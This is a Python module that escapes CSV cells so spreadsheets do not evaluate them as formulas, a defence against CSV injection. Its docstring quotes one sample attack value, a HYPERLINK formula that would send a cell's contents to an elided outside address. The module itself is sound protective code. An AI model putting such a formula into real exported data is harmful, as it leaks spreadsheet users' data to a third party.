"""Text cells of a CSV a spreadsheet may open: never read as a formula.

A spreadsheet (Excel, LibreOffice, Google Sheets) evaluates a cell whose text
starts with ``=``, ``+``, ``-`` or ``@``, so a stored value such as
``=HYPERLINK("http://...?"&A1, "open")`` written to a CSV becomes a live formula
on the reader's machine (CSV injection, OWASP). Leading blanks (spaces, tab,
CR, LF) count for nothing: a spreadsheet that trims them on import evaluates
`` =1+1`` too. Such a cell is written with a leading ``'``, which spreadsheets
take as "this is text". A plain number (``-5``, ``+1.5e3``, a DECIMAL the API
sends as text) is no formula and stays as it is. The exact values are in the
JSON and Parquet exports. Standard library only: the CLI and the dashboard both
write CSV.
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_STARTS", "spreadsheet_text"]

FORMULA_STARTS = ("=", "+", "-", "@")
_BLANKS = " \t\r\n"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_text(text: str) -> str:
    """``text`` as a CSV cell: with a leading ``'`` when a spreadsheet would evaluate it."""
    start = text.lstrip(_BLANKS)
    if start.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(start):
        return "'" + text
    return text
